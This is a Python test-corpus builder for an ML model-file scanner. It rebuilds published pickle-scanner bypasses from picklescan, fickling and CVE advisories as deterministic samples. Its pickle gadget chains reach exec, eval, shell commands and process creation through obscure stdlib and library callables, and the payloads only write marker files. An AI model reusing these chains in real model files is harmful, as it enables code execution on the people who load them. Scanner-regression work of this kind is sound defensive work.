"""Deterministic rebuilds of *published* scanner bypasses and model-file attack techniques.

Why this exists
---------------
``build_malicious.py`` holds the project's own catalogue of evasion shapes.  This module is the other
half: one builder per *published* advisory or write-up (picklescan / fickling / modelscan GHSAs,
CVEs against the loaders themselves, vendor research from JFrog, ReversingLabs, Checkmarx,
HiddenLayer, Unit 42, and the 2025 papers), each rebuilt from its description, never copied.  Every
builder says which advisory it reproduces and when it was published, so a regression names the
advisory that came back.

Each sample records ``component``: the part of mlvet that must change when the sample is not ranked
high or critical (``pickle-sem`` = pickle engine and policy, ``fs`` = archives and folders,
``keras-onnx`` = Keras / TensorFlow / ONNX, ``templates`` = chat templates and Hugging Face Python).

Safety and determinism are as in ``build_malicious``: every byte is written by hand (or by the real
library where only a library writes that format, e.g. the ONNX protobuf), building executes nothing,
payloads only append to ``$MLVET_MARKER`` or create ``mlvet_marker*`` in the current directory.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import sys
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

from build_malicious import (  # noqa: E402  (sibling module, needs HERE on sys.path)
    PY_SRC,
    REL_MARKER,
    SHELL_CMD,
    Asm,
    Raw,
    ZEntry,
    build_zip,
    call_pickle,
    frag,
    torch_entries,
    torch_zip,
)

__all__ = ["Advisory", "build_all", "write_all"]

PS = "picklescan GHSA-"
FK = "fickling GHSA-"


@dataclass(frozen=True)
class Advisory:
    """One rebuilt published technique.

    ``expect`` is a dotted callable (or rule id prefixed with ``rule:``) that a high or critical finding
    must name; ``None`` means the severity alone is checked (container and config attacks whose
    finding names no callable).  ``live`` names the real loader that executes the payload
    (``pickle``) when the sample is safe and cheap to run in a subprocess, else ``None``.
    """

    name: str
    source: str
    published: str
    component: str
    filename: str
    data: bytes
    expect: str | None
    note: str
    live: str | None = None


_REGISTRY: list[Callable[[], list[Advisory]]] = []


def advisory(fn: Callable[[], list[Advisory]]) -> Callable[[], list[Advisory]]:
    """Register a builder (one per published advisory or write-up)."""
    _REGISTRY.append(fn)
    return fn


def _adv(
    name: str,
    source: str,
    published: str,
    data: bytes,
    expect: str | None,
    note: str,
    *,
    component: str = "pickle-sem",
    filename: str | None = None,
    live: str | None = None,
) -> list[Advisory]:
    return [Advisory(name, source, published, component, filename or f"{name}.pkl", data, expect, note, live)]


def _new(a: Asm, module: str, name: str) -> Asm:
    """Push ``module.name()`` (an instance built with no arguments) onto the stack."""
    return a.glob(module, name).empty_tuple().reduce()


def _method(module: str, qual: str, cls: str, *args: object, proto: int = 4) -> bytes:
    """``module.qual(module.cls(), *args)``: an unbound method called on a fresh instance."""
    a = Asm(proto)
    a.glob(module, qual).mark()
    _new(a, module, cls)
    for v in args:
        a.val(v)
    a.tuple_().reduce()
    return a.done()


def _obj(proto: int, module: str, name: str) -> Raw:
    """A bare instance ``module.name.__new__(module.name)`` via ``copyreg.__newobj__``-free NEWOBJ."""
    return frag(proto, lambda a: a.glob(module, name).empty_tuple().newobj())


# =============================================================================================
# picklescan advisories (stdlib / PyTorch callables missing from its deny-list)
# =============================================================================================


@advisory
def ps_idlelib_pyshell_runcode() -> list[Advisory]:
    # picklescan GHSA-3gf5-cxq9-w223 (2025-08): idlelib.pyshell.ModifiedInterpreter.runcode execs source.
    a = Asm(4)
    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcode").mark().raw(
        _obj(4, "idlelib.pyshell", "ModifiedInterpreter").code
    )
    a.val(PY_SRC).tuple_().reduce()
    return _adv(
        "ps_idlelib_pyshell_runcode",
        PS + "3gf5-cxq9-w223",
        "2025-08",
        a.done(),
        "idlelib.pyshell",
        "IDLE shell interpreter method that runs source code.",
    )


@advisory
def ps_idlelib_pyshell_runcommand() -> list[Advisory]:
    # picklescan GHSA-j343-8v2j-ff7w (2025-08): ModifiedInterpreter.runcommand execs source.
    a = Asm(4)
    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcommand").mark()
    a.raw(_obj(4, "idlelib.pyshell", "ModifiedInterpreter").code).val(PY_SRC).tuple_().reduce()
    return _adv(
        "ps_idlelib_pyshell_runcommand",
        PS + "j343-8v2j-ff7w",
        "2025-08",
        a.done(),
        "idlelib.pyshell",
        "IDLE runcommand: exec of a source string in the shell's namespace.",
    )


@advisory
def ps_idlelib_run_executive_runcode() -> list[Advisory]:
    # picklescan GHSA-m869-42cg-3xwr (2025-08): idlelib.run.Executive.runcode.
    a = Asm(4)
    a.glob("idlelib.run", "Executive.runcode").mark()
    a.raw(_obj(4, "idlelib.run", "Executive").code).val(PY_SRC).tuple_().reduce()
    return _adv(
        "ps_idlelib_run_executive_runcode",
        PS + "m869-42cg-3xwr",
        "2025-08",
        a.done(),
        "idlelib.run",
        "IDLE subprocess executive: exec of attacker source.",
    )


@advisory
def ps_idlelib_autocomplete_fetch_completions() -> list[Advisory]:
    # picklescan GHSA-7cq8-mj8x-j263 (2025-08): AutoComplete.fetch_completions evals its argument.
    a = Asm(4)
    a.glob("idlelib.autocomplete", "AutoComplete.fetch_completions").mark()
    a.raw(_obj(4, "idlelib.autocomplete", "AutoComplete").code).val(PY_SRC).val(1).tuple_().reduce()
    return _adv(
        "ps_idlelib_autocomplete_fetch_completions",
        PS + "7cq8-mj8x-j263",
        "2025-08",
        a.done(),
        "idlelib.autocomplete",
        "fetch_completions(what, mode) evaluates `what` to list attributes.",
    )


@advisory
def ps_idlelib_calltip_fetch_tip() -> list[Advisory]:
    # picklescan GHSA-8r4j-24qv-fmq9 (2025-08): Calltip.fetch_tip evals the expression it is given.
    a = Asm(4)
    a.glob("idlelib.calltip", "Calltip.fetch_tip").mark()
    a.raw(_obj(4, "idlelib.calltip", "Calltip").code).val(PY_SRC).tuple_().reduce()
    return _adv(
        "ps_idlelib_calltip_fetch_tip",
        PS + "8r4j-24qv-fmq9",
        "2025-08",
        a.done(),
        "idlelib.calltip",
        "Calltip.fetch_tip(expression) evaluates the expression.",
    )


@advisory
def ps_bottleneck_run_autograd_prof() -> list[Advisory]:
    # picklescan GHSA-4whj-rm5r-c2v8 (2025-08): torch.utils.bottleneck.__main__.run_autograd_prof execs code.
    data = call_pickle("torch.utils.bottleneck.__main__", "run_autograd_prof", PY_SRC, {})
    return _adv(
        "ps_bottleneck_run_autograd_prof",
        PS + "4whj-rm5r-c2v8",
        "2025-08",
        data,
        "torch.utils.bottleneck",
        "run_autograd_prof(code, globs) exec's the code under the profiler.",
    )


@advisory
def ps_trace_runctx() -> list[Advisory]:
    # picklescan GHSA-g344-hcph-8vgg (2025-08): trace.Trace.runctx.
    data = _method("trace", "Trace.runctx", "Trace", PY_SRC, {}, {})
    return _adv(
        "ps_trace_runctx",
        PS + "g344-hcph-8vgg",
        "2025-08",
        data,
        "trace",
        "Trace().runctx(cmd, globals, locals) exec's cmd.",
        live="pickle",
    )


@advisory
def ps_profile_runctx() -> list[Advisory]:
    # picklescan GHSA-6vqj-c2q5-j97w (2025-08): profile.Profile.runctx.
    data = _method("profile", "Profile.runctx", "Profile", PY_SRC, {}, {})
    return _adv(
        "ps_profile_runctx",
        PS + "6vqj-c2q5-j97w",
        "2025-08",
        data,
        "profile",
        "Profile().runctx(cmd, globals, locals) exec's cmd.",
        live="pickle",
    )


@advisory
def ps_code_interactive_runcode() -> list[Advisory]:
    # picklescan GHSA-cj3c-v495-4xqh (2025-08): code.InteractiveInterpreter.runcode execs a string.
    data = _method("code", "InteractiveInterpreter.runcode", "InteractiveInterpreter", PY_SRC)
    return _adv(
        "ps_code_interactive_runcode",
        PS + "cj3c-v495-4xqh",
        "2025-08",
        data,
        "code",
        "InteractiveInterpreter().runcode(src) exec's src in the interpreter namespace.",
        live="pickle",
    )


@advisory
def ps_numpy_f2py_getlincoef() -> list[Advisory]:
    # picklescan GHSA-r8g5-cgf2-4m4m (2025-12): numpy.f2py.crackfortran.getlincoef evals its expression.
    data = call_pickle("numpy.f2py.crackfortran", "getlincoef", PY_SRC, {})
    return _adv(
        "ps_numpy_f2py_getlincoef",
        PS + "r8g5-cgf2-4m4m",
        "2025-12",
        data,
        "numpy.f2py",
        "getlincoef(e, xset) evaluates e while solving a linear coefficient.",
    )


@advisory
def ps_pyrepl_pipe_pager() -> list[Advisory]:
    # picklescan GHSA-g38g-8gr9-h9xp (2026-03): _pyrepl.pager.pipe_pager runs a shell command (3.13+).
    out = _adv(
        "ps_pyrepl_pipe_pager",
        PS + "g38g-8gr9-h9xp",
        "2026-03",
        call_pickle("_pyrepl.pager", "pipe_pager", "text", SHELL_CMD),
        "_pyrepl",
        "pipe_pager(text, cmd) pipes text into `cmd` run by the shell.",
    )
    out += _adv(
        "ps_pyrepl_tempfile_pager",
        PS + "g38g-8gr9-h9xp",
        "2026-03",
        call_pickle("_pyrepl.pager", "tempfile_pager", "text", SHELL_CMD),
        "_pyrepl",
        "tempfile_pager(text, cmd) runs `cmd <tempfile>` through os.system.",
    )
    return out


@advisory
def ps_inductor_compile_file() -> list[Advisory]:
    # picklescan advisory fixed in 0.0.26 (2025-06; test sample malicious17): torch._inductor.codecache
    # .compile_file(input, output, cmd) runs cmd (a list) with subprocess.
    data = call_pickle("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", SHELL_CMD])
    return _adv(
        "ps_inductor_compile_file",
        "picklescan 0.0.26 fix (malicious17)",
        "2025-06",
        data,
        "torch._inductor",
        "Inductor helper that runs a compiler command line.",
    )


@advisory
def ps_httplib_py2_alias() -> list[Advisory]:
    # picklescan 0.0.9 sample malicious3 (2023): protocol-0 'httplib' (Python 2 name, remapped to
    # http.client by fix_imports) opens a connection.
    a = Asm(0).global_("httplib", "HTTPSConnection").mark().unicode("127.0.0.1").int_(9).tuple_().reduce()
    return _adv(
        "ps_httplib_py2_alias",
        "picklescan malicious3 (httplib)",
        "2023-03",
        a.done(),
        "http",
        "Python 2 module name remapped by fix_imports to http.client.",
    )


@advisory
def ps_requests_api_get() -> list[Advisory]:
    # picklescan sample malicious4 (2023): requests.api.get (submodule spelling of requests.get).
    data = call_pickle("requests.api", "get", "http://127.0.0.1:9/")
    return _adv(
        "ps_requests_api_get",
        "picklescan malicious4 (requests.api)",
        "2023-03",
        data,
        "requests",
        "HTTP request from a submodule spelling.",
    )


@advisory
def ps_aiohttp_client_session() -> list[Advisory]:
    # picklescan sample malicious5 (2023): aiohttp.client.ClientSession.
    data = call_pickle("aiohttp.client", "ClientSession")
    return _adv(
        "ps_aiohttp_client_session",
        "picklescan malicious5 (aiohttp)",
        "2023-03",
        data,
        "aiohttp",
        "Network client construction from a pickle.",
    )


@advisory
def ps_sys_exit() -> list[Advisory]:
    # picklescan sample malicious9 (2023): sys.exit terminates the loading process (denial of service).
    return _adv(
        "ps_sys_exit",
        "picklescan malicious9 (sys.exit)",
        "2023-03",
        call_pickle("sys", "exit", 3),
        "sys",
        "Loading the model kills the host process.",
    )


@advisory
def ps_cloudpickle_make_function() -> list[Advisory]:
    # picklescan GHSA-9m3x-qqw2-h32h (2026-01): cloudpickle._make_function + _builtin_type('CodeType')
    # rebuild and call a function from raw bytecode without naming exec/eval.
    code = compile(PY_SRC, "<m>", "exec")
    a = Asm(4)
    a.glob("cloudpickle.cloudpickle", "_make_function").mark()
    a.glob("cloudpickle.cloudpickle", "_builtin_type").val("CodeType").tuple1().reduce()
    a.tuple_of(_code_args(code)).reduce()
    a.empty_dict().val("f").none().none().tuple_().reduce()
    a.empty_tuple().reduce()
    return _adv(
        "ps_cloudpickle_make_function",
        PS + "9m3x-qqw2-h32h",
        "2026-01",
        a.done(),
        "cloudpickle.cloudpickle._make_function",
        "cloudpickle's function rebuilders: a code object is built and called.",
    )


@advisory
def ps_types_codetype_function() -> list[Advisory]:
    # picklescan GHSA-9m3x-qqw2-h32h (2026-01), second shape: types.CodeType + types.FunctionType.
    code = compile(PY_SRC, "<m>", "exec")
    a = Asm(4)
    a.glob("types", "FunctionType").mark()
    a.glob("types", "CodeType").tuple_of(_code_args(code)).reduce()
    a.empty_dict().tuple_().reduce().empty_tuple().reduce()
    return _adv(
        "ps_types_codetype_function",
        PS + "9m3x-qqw2-h32h",
        "2026-01",
        a.done(),
        "types.CodeType",
        "FunctionType(CodeType(...), {})() runs bytecode carried in the pickle (Python-minor specific).",
    )


def _code_args(code: object) -> list[object]:
    """Constructor arguments of ``types.CodeType`` for this interpreter (3.11+ layout)."""
    c = code
    return [
        c.co_argcount,
        c.co_posonlyargcount,
        c.co_kwonlyargcount,
        c.co_nlocals,  # type: ignore[attr-defined]
        c.co_stacksize,
        c.co_flags,
        c.co_code,
        tuple(x for x in c.co_consts if not hasattr(x, "co_code")),  # type: ignore[attr-defined]
        c.co_names,
        c.co_varnames,
        c.co_filename,
        c.co_name,
        c.co_qualname,  # type: ignore[attr-defined]
        c.co_firstlineno,
        c.co_linetable,
        c.co_exceptiontable,
        c.co_freevars,
        c.co_cellvars,  # type: ignore[attr-defined]
    ]


@advisory
def ps_py2_compile_eval_chain() -> list[Advisory]:
    # picklescan sample malicious0 (2022): protocol 0 __builtin__.compile + __builtin__.eval + globals().
    a = Asm(0)
    a.global_("__builtin__", "eval").mark()
    a.global_("__builtin__", "compile").mark().unicode(PY_SRC).unicode("").unicode("exec").tuple_().reduce()
    a.global_("__builtin__", "globals").mark().tuple_().reduce()
    a.tuple_().reduce()
    return _adv(
        "ps_py2_compile_eval_chain",
        "picklescan malicious0",
        "2022-03",
        a.done(),
        "builtins.eval",
        "eval(compile(src, '', 'exec'), globals()) in the Python 2 spelling.",
    )


@advisory
def ps_torch_magic_number_reduce() -> list[Advisory]:
    # picklescan GHSA-97f8-7cmv-76j2 (2026-02): legacy torch stream whose *magic number* pickle is itself
    # a REDUCE (the loader unpickles it before comparing), so a scanner that expects an INT skips it.
    magic = call_pickle("builtins", "eval", "0x1950a86a20f9469cfc6c or " + PY_SRC, proto=2)
    rest = Asm(2).int_(1001).done() + Asm(2).val({"protocol_version": 1001}).done()
    return _adv(
        "ps_torch_magic_number_reduce",
        PS + "97f8-7cmv-76j2",
        "2026-02",
        magic + rest,
        "builtins.eval",
        "The magic-number pickle is a call; torch.load unpickles it first.",
        filename="pytorch_model.bin",
    )


# =============================================================================================
# fickling advisories and private stdlib modules
# =============================================================================================


@advisory
def fk_subinterpreter_run_string() -> list[Advisory]:
    # fickling GHSA-6ggj-6f2q-f7mx (2026-07): _interpreters.create() + run_string(id, src) execute source
    # in a sub-interpreter of the loading process; the PoC routes the call through BUILD/__setstate__.
    out: list[Advisory] = []
    for mod, when in (("_interpreters", "3.13+"), ("_xxsubinterpreters", "3.8-3.12")):
        a = Asm(4)
        a.glob(mod, "run_string").mark().glob(mod, "create").empty_tuple().reduce().val(PY_SRC).tuple_().reduce()
        out += _adv(
            f"fk_subinterpreter_{mod.strip('_')}",
            FK + "6ggj-6f2q-f7mx",
            "2026-07",
            a.done(),
            mod,
            f"{mod}.run_string(create(), src) ({when}): exec in a sub-interpreter.",
        )
    return out


@advisory
def fk_ctypes_private_dlopen() -> list[Advisory]:
    # fickling PR #302 "block private stdlib imports" (2026-07): _ctypes.dlopen loads a shared library
    # (its constructors run) without naming the public ctypes module.
    return _adv(
        "fk_ctypes_private_dlopen",
        "fickling PR #302 (_ctypes)",
        "2026-07",
        call_pickle("_ctypes", "dlopen", "/tmp/mlvet_marker.so", 2),
        "_ctypes",
        "Private ctypes module: dlopen of an attacker-placed library.",
    )


@advisory
def fk_frozen_importlib_external_loader() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS additions (2026-01, GHSA-q5qq-mvfm-j35x class): importlib's frozen
    # implementation modules. SourceFileLoader(name, path).load_module() executes a local .py file.
    a = Asm(4)
    a.glob("_frozen_importlib_external", "SourceFileLoader.load_module").mark()
    a.glob("_frozen_importlib_external", "SourceFileLoader").val("mlvet_marker").val("/tmp/mlvet_marker.py")
    a.tuple2().reduce().tuple_().reduce()
    return _adv(
        "fk_frozen_importlib_external_loader",
        FK + "q5qq-mvfm-j35x",
        "2026-01",
        a.done(),
        "_frozen_importlib_external",
        "Frozen importlib loader executing a Python file from disk.",
    )


@advisory
def fk_frozen_importlib_gcd_import() -> list[Advisory]:
    # Same fickling class: _frozen_importlib._gcd_import imports any module (import side effects run).
    return _adv(
        "fk_frozen_importlib_gcd_import",
        FK + "q5qq-mvfm-j35x",
        "2026-01",
        call_pickle("_frozen_importlib", "_gcd_import", "antigravity"),
        "_frozen_importlib",
        "Import of an arbitrary module through the frozen importlib bootstrap.",
    )


@advisory
def fk_imp_private() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS: "_imp" (2026-01). _imp.init_frozen / create_dynamic load modules.
    return _adv(
        "fk_imp_init_frozen",
        "fickling UNSAFE_IMPORTS (_imp)",
        "2026-01",
        call_pickle("_imp", "init_frozen", "__hello__"),
        "_imp",
        "Private import machinery: creates and executes a frozen module.",
    )


@advisory
def fk_winapi_create_process() -> list[Advisory]:
    # Private-stdlib class (fickling PR #302, 2026-07): _winapi.CreateProcess starts a process on Windows.
    data = call_pickle("_winapi", "CreateProcess", None, "cmd /c " + SHELL_CMD, None, None, 0, 0, None, None, None)
    return _adv(
        "fk_winapi_create_process",
        "fickling PR #302 (_winapi)",
        "2026-07",
        data,
        "_winapi",
        "Windows process creation through the private _winapi module.",
    )


@advisory
def fk_pexpect_run() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "pexpect" (2026-01) and ISSUE-9: pexpect.run(cmd) spawns a command.
    out = _adv(
        "fk_pexpect_run",
        "fickling UNSAFE_IMPORTS (pexpect)",
        "2026-01",
        call_pickle("pexpect", "run", "sh -c '" + SHELL_CMD + "'"),
        "pexpect",
        "pexpect.run spawns the command in a pty.",
        live="pickle",
    )
    out += _adv(
        "fk_pexpect_popen_spawn",
        "fickling UNSAFE_IMPORTS (pexpect)",
        "2026-01",
        call_pickle("pexpect.popen_spawn", "PopenSpawn", ["sh", "-c", SHELL_CMD]),
        "pexpect",
        "PopenSpawn starts a subprocess at construction.",
    )
    return out


@advisory
def fk_sqlite3_private() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "_sqlite3" (2026-01): the C module behind sqlite3 creates database files.
    return _adv(
        "fk_sqlite3_private",
        "fickling UNSAFE_IMPORTS (_sqlite3)",
        "2026-01",
        call_pickle("_sqlite3", "connect", REL_MARKER),
        "_sqlite3",
        "Private sqlite3 module: connect() creates a file at any path.",
    )


@advisory
def fk_io_private_open() -> list[Advisory]:
    # fickling analysis.py UNSAFE_IMPORTS "_io.open" (2026-01): truncates any file opened for writing.
    return _adv(
        "fk_io_private_open",
        "fickling UNSAFE_IMPORTS (_io.open)",
        "2026-01",
        call_pickle("_io", "open", REL_MARKER, "w"),
        "io.open",
        "_io.open(path, 'w') creates or truncates a file.",
        live="pickle",
    )


@advisory
def fk_syslog() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "syslog" (2026-01): writes attacker text to the system log.
    return _adv(
        "fk_syslog",
        "fickling UNSAFE_IMPORTS (syslog)",
        "2026-01",
        call_pickle("syslog", "syslog", "mlvet-test"),
        "syslog",
        "Log injection from a model file.",
    )


@advisory
def fk_unittest_mock_patch() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "unittest" (2026-01): unittest.mock._importer imports any dotted module.
    return _adv(
        "fk_unittest_mock_importer",
        "fickling UNSAFE_IMPORTS (unittest)",
        "2026-01",
        call_pickle("unittest.mock", "_importer", "os"),
        "unittest",
        "mock's importer walks a dotted path with __import__.",
    )


# =============================================================================================
# modelaudit / JFrog / Sonatype / Checkmarx / HiddenLayer / Unit 42 write-ups
# =============================================================================================


@advisory
def ma_psutil_popen() -> list[Advisory]:
    # modelaudit SUSPICIOUS_GLOBALS "popen" family (2025): psutil.Popen is a subprocess.Popen wrapper
    # shipped in most ML environments.
    return _adv(
        "ma_psutil_popen",
        "modelaudit suspicious_symbols (popen)",
        "2025-06",
        call_pickle("psutil", "Popen", ["sh", "-c", SHELL_CMD]),
        "psutil",
        "psutil.Popen starts a process exactly like subprocess.Popen.",
        live="pickle",
    )


@advisory
def ma_ptyprocess_spawn() -> list[Advisory]:
    # modelaudit suspicious_symbols "spawn"/"pexpect" (2025): ptyprocess.PtyProcess.spawn.
    return _adv(
        "ma_ptyprocess_spawn",
        "modelaudit suspicious_symbols (spawn)",
        "2025-06",
        call_pickle("ptyprocess", "PtyProcess.spawn", ["sh", "-c", SHELL_CMD]),
        "ptyprocess",
        "pexpect's pty backend: spawn forks and execs argv.",
    )


@advisory
def ma_pkgutil_get_importer() -> list[Advisory]:
    # modelaudit suspicious_symbols "get_importer"/"walk_packages" (2025): pkgutil.walk_packages imports
    # every package found under a path.
    return _adv(
        "ma_pkgutil_walk_packages",
        "modelaudit suspicious_symbols (walk_packages)",
        "2025-06",
        call_pickle("pkgutil", "walk_packages", ["/tmp"]),
        "pkgutil",
        "walk_packages imports packages found under attacker-chosen paths.",
    )


@advisory
def ma_dill_load_session() -> list[Advisory]:
    # modelaudit suspicious_symbols "load_session"/"load_module" (2025): dill.load_module restores a
    # pickled interpreter session from a file.
    return _adv(
        "ma_dill_load_module",
        "modelaudit suspicious_symbols (load_session)",
        "2025-06",
        call_pickle("dill", "load_module", "/tmp/mlvet_marker.pkl"),
        "dill",
        "dill session loader: a nested pickle from a local path.",
    )


@advisory
def jfrog_joblib_memory_cache() -> list[Advisory]:
    # modelaudit suspicious_symbols "joblib.cache" / JFrog "joblib" write-ups (2025): joblib.load of a
    # second file; spelled through joblib.numpy_pickle_compat.
    return _adv(
        "jfrog_joblib_compat_load",
        "JFrog joblib write-up / modelaudit (joblib.load)",
        "2025-03",
        call_pickle("joblib.numpy_pickle_compat", "load_compatibility", "/tmp/mlvet_marker.pkl"),
        "joblib",
        "Old joblib loader: unpickles another file.",
    )


@advisory
def checkmarx_torch_jit_annotations_eval() -> list[Advisory]:
    # CVE-2022-45907 (2022-11, PyTorch): torch.jit.annotations.parse_type_line evals a type comment.
    data = call_pickle("torch.jit.annotations", "parse_type_line", "# type: (" + PY_SRC + ") -> None", None, 1)
    return _adv(
        "cve_2022_45907_parse_type_line",
        "CVE-2022-45907",
        "2022-11",
        data,
        "torch.jit.annotations",
        "parse_type_line evaluates the type comment with eval().",
    )


@advisory
def cve_2023_6730_rag_legacy_index() -> list[Advisory]:
    # CVE-2023-6730 (2023-12, transformers RagRetriever): LegacyIndex(vector_size, index_path) unpickles the
    # passages file under index_path. The class name matches transformers' class allow-glob.
    data = call_pickle("transformers.models.rag.retrieval_rag", "LegacyIndex", 768, "/tmp/mlvet_index")
    return _adv(
        "cve_2023_6730_rag_legacy_index",
        "CVE-2023-6730",
        "2023-12",
        data,
        "transformers.models.rag.retrieval_rag.LegacyIndex",
        "Constructor runs pickle.load on a local index file (nested deserialiser).",
    )


@advisory
def cve_2024_3568_tf_load_repo_checkpoint() -> list[Advisory]:
    # CVE-2024-3568 (2024-04, transformers): TFPreTrainedModel.load_repo_checkpoint unpickles the
    # checkpoint's extra data. Reached as Class.method under an allow-listed class name.
    a = Asm(4)
    a.glob("transformers.modeling_tf_utils", "TFPreTrainedModel.load_repo_checkpoint").mark()
    a.none().val("/tmp/mlvet_repo").tuple_().reduce()
    return _adv(
        "cve_2024_3568_tf_load_repo_checkpoint",
        "CVE-2024-3568",
        "2024-04",
        a.done(),
        "transformers.modeling_tf_utils.TFPreTrainedModel.load_repo_checkpoint",
        "Checkpoint loader reached as a method under an allow-listed class.",
    )


@advisory
def cve_2024_9880_pandas_query() -> list[Advisory]:
    # CVE-2024-9880 (2024-11, pandas): DataFrame.query(expr) reaches builtins through the expression's
    # attribute access. Called as DataFrame.query on a DataFrame built in the pickle.
    a = Asm(4)
    a.glob("pandas.core.frame", "DataFrame.query").mark()
    a.glob("pandas.core.frame", "DataFrame").mark().val({"a": [1]}).tuple_().reduce()
    a.val("@pd.core.frame.com.builtins.__import__('os').system('true')").tuple_().reduce()
    return _adv(
        "cve_2024_9880_pandas_query",
        "CVE-2024-9880",
        "2024-11",
        a.done(),
        "pandas.core.frame.DataFrame.query",
        "Method call on an allow-listed class whose argument is an expression that reaches os.",
    )


@advisory
def huntr_transformers_autotokenizer_remote_code() -> list[Advisory]:
    # Hugging Face trust_remote_code (huntr reports 2024, CVE-2024-11392 class): from_pretrained on a local
    # folder with trust_remote_code=True imports the folder's Python. Spelled Auto*Tokenizer*, which the
    # from_pretrained deny-pattern (AutoModel*) does not name.
    a = Asm(4)
    a.glob("functools", "partial").mark().glob("transformers", "AutoTokenizer.from_pretrained")
    a.val("/tmp/mlvet_repo").tuple_().reduce()
    a.empty_tuple().reduce()
    out = _adv(
        "hf_autotokenizer_partial_remote_code",
        "CVE-2024-11392 class (trust_remote_code)",
        "2024-11",
        a.done(),
        "transformers",
        "AutoTokenizer.from_pretrained wrapped in functools.partial.",
    )
    b = Asm(4)
    b.glob("transformers", "AutoTokenizer.from_pretrained").val("/tmp/mlvet_repo").tuple1().reduce()
    out += _adv(
        "hf_autotokenizer_from_pretrained",
        "CVE-2024-11392 class (trust_remote_code)",
        "2024-11",
        b.done(),
        "transformers.AutoTokenizer.from_pretrained",
        "Hub/local loader (code, pickles, network) under the transformers class allow-glob.",
    )
    c = Asm(4)
    c.glob("transformers", "AutoConfig.from_pretrained").val("/tmp/mlvet_repo").tuple1().reduce()
    out += _adv(
        "hf_autoconfig_from_pretrained",
        "CVE-2024-11392 class (trust_remote_code)",
        "2024-11",
        c.done(),
        "transformers.AutoConfig.from_pretrained",
        "AutoConfig.from_pretrained fetches a repo and may import its configuration code.",
    )
    return out


@advisory
def sentence_transformers_remote_code() -> list[Advisory]:
    # Same class for sentence-transformers (trust_remote_code, 2024): the constructor loads a repo.
    a = Asm(4)
    a.glob("sentence_transformers", "SentenceTransformer").val("/tmp/mlvet_repo").tuple1().reduce()
    return _adv(
        "st_sentence_transformer_ctor",
        "sentence-transformers trust_remote_code",
        "2024-06",
        a.done(),
        "sentence_transformers.SentenceTransformer",
        "Constructor that downloads / imports a model repository.",
    )


@advisory
def lightning_load_from_checkpoint() -> list[Advisory]:
    # PyTorch Lightning CVE-2024-5980 family (2024-06) / load_from_checkpoint: torch.load of a second
    # file with weights_only=False, reached as Class.method under the lightning allow-glob.
    a = Asm(4)
    a.glob("pytorch_lightning.core.module", "LightningModule.load_from_checkpoint")
    a.val("/tmp/mlvet_marker.ckpt").tuple1().reduce()
    return _adv(
        "lightning_load_from_checkpoint",
        "Lightning load_from_checkpoint (CVE-2024-5980 family)",
        "2024-06",
        a.done(),
        "pytorch_lightning.core.module.LightningModule.load_from_checkpoint",
        "A second torch.load of a local checkpoint (nested deserialiser).",
    )


@advisory
def gensim_saveload_load() -> list[Advisory]:
    # Gensim SaveLoad.load == pickle.load of a path (documented as unsafe; JFrog model-format survey 2024).
    a = Asm(4)
    a.glob("gensim.models.word2vec", "Word2Vec.load").val("/tmp/mlvet_marker.model").tuple1().reduce()
    return _adv(
        "gensim_word2vec_load",
        "JFrog ML model formats survey (gensim)",
        "2024-03",
        a.done(),
        "gensim.models.word2vec.Word2Vec.load",
        "Nested unpickling of a local file.",
    )


@advisory
def statsmodels_results_load() -> list[Advisory]:
    # statsmodels results.load(fname) is pickle.load (documented): nested deserialiser.
    a = Asm(4)
    a.glob("statsmodels.base.model", "LikelihoodModelResults.load").val("/tmp/mlvet_marker.pkl").tuple1().reduce()
    return _adv(
        "statsmodels_results_load",
        "statsmodels save/load (pickle) docs",
        "2023-01",
        a.done(),
        "statsmodels.base.model.LikelihoodModelResults.load",
        "Nested unpickling of a local file.",
    )


@advisory
def torchvision_dataset_download() -> list[Advisory]:
    # Hide-and-Seek (arXiv:2508.19774, 2025-08) third-party gadget class: dataset classes that download
    # and extract archives at construction (network + archive extraction).
    # MNIST(root, train, transform, target_transform, download=True) positionally, via plain REDUCE.
    data = call_pickle("torchvision.datasets.mnist", "MNIST", "/tmp/mlvet_data", True, None, None, True)
    return _adv(
        "torchvision_mnist_download",
        "arXiv:2508.19774 gadget class (dataset download)",
        "2025-08",
        data,
        "torchvision.datasets.mnist.MNIST",
        "Dataset constructor (under the torchvision class allow-glob) that downloads and extracts.",
    )


@advisory
def scipy_fortranfile_write() -> list[Advisory]:
    # ISSUE-9 / PickleBall (CCS 2025) allow-list audit: scipy.io.FortranFile(path, 'w') truncates a file.
    out = _adv(
        "scipy_fortranfile_write",
        "PickleBall allow-list audit (scipy FortranFile)",
        "2025-10",
        call_pickle("scipy.io._fortran", "FortranFile", REL_MARKER, "w"),
        "scipy.io._fortran.FortranFile",
        "Class under the scipy allow-glob that opens a path for writing.",
        live="pickle",
    )
    out += _adv(
        "scipy_netcdf_file_write",
        "PickleBall allow-list audit (scipy netcdf)",
        "2025-10",
        call_pickle("scipy.io._netcdf", "netcdf_file", REL_MARKER, "w"),
        "scipy.io",
        "netcdf_file(path, 'w') creates a file.",
    )
    return out


@advisory
def numpy_memmap_write() -> list[Advisory]:
    # ISSUE-9 allow-list hole: numpy.memmap(path, mode='w+') creates/truncates a file when *called*.
    data = Asm(4).glob("numpy", "memmap").mark().val(REL_MARKER).glob("numpy", "uint8").val("w+").int_(0)
    data.val((8,)).tuple_().reduce()
    return _adv(
        "numpy_memmap_w_plus",
        "ISSUE-9 allow-list audit (numpy.memmap)",
        "2026-11",
        data.done(),
        "numpy.memmap",
        "memmap(path, uint8, 'w+', 0, (8,)) creates an 8-byte file.",
        live="pickle",
    )


@advisory
def numpy2_private_npyio_load() -> list[Advisory]:
    # ISSUE-9: NumPy 2 private spelling numpy.lib._npyio_impl.load (== numpy.load: loads a second pickle).
    out = _adv(
        "numpy2_npyio_impl_load",
        "ISSUE-9 (numpy.lib._npyio_impl.load)",
        "2026-11",
